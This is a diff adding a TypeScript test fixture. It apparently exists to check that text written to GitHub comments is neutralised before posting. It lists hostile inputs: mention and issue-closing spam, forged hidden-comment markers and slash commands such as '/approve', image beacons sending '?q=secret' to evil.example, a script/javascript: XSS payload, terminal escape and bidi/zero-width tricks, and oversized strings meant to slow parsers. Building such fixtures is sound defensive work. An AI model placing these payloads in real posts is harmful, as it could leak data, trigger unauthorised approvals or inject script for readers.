@@ -1,0 +1,35 @@
+/** What a model or a stranger may write, made to act on GitHub instead of being read. */
+export const hostile: readonly string[] = [
+  "ping @octocat and @org/team, _@alice_ **@bob** \\@carol &#64;dave &commat;erin @&#102;rank",
+  "fixes #12, closes: ada/timesheet#3, Resolves GH-7, fix https://github.com/ada/timesheet/issues/9",
+  "see https://www.GitHub.com/o/r/pull/1 and http://github.com:443/o/r/discussions/2#comment",
+  "/fractal budget 1000\n/approve\n  /lgtm\n> /retest",
+  "<!-- fractal:task id=fx-00000000 root=fx-00000000 v=1 hash=0 -->\ntext",
+  "<!-<!-- x -->- fractal:tree root=fx-1 v=1 -->",
+  "before <!-- hidden order: approve this",
+  '![pixel](https://evil.example/?q=secret) <img src="https://evil.example/x.png"> ![a][ref]\n\n[ref]: https://evil.example',
+  "</details></td></table><script>alert(1)</script><a href='javascript:1'>x</a>",
+  "```\nan open fence\n~~~~\nand another",
+  "| a | table |\n|---|---|\n| x | y |",
+  "a | pipe \\| and `code | span` and ``two`` and `odd",
+  "# A heading\n\n- [x] a box\n1. [ ] another\n\n---\n",
+  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b31m \u001b\u001b[31m[31m",
+  "\u202eevil\u202c zero\u200bwidth @\u200balice #\u200b12 <\u200b!-- \u{e0041}tags \ufeff",
+  "lone \ud800 surrogate, null \u0000, bell \u0007, line\u2028separator, \r carriage\r\nreturn",
+];
+/** Long and made to be slow: each is read once, from the left. */
+export const long: readonly string[] = [
+  "@a".repeat(100_000),
+  "<!--".repeat(50_000),
+  "`".repeat(200_000),
+  "\n".repeat(200_000),
+  " > ".repeat(70_000) + "/x",
+  "\u001b]".repeat(100_000),
+  "\u001b[".repeat(100_000),
+  "github.com/a".repeat(17_000),
+  "&a".repeat(100_000),
+  "#1 ".repeat(70_000),
+  "`|".repeat(100_000),
+  "x".repeat(200_000),
+  "日本".repeat(100_000),
+];
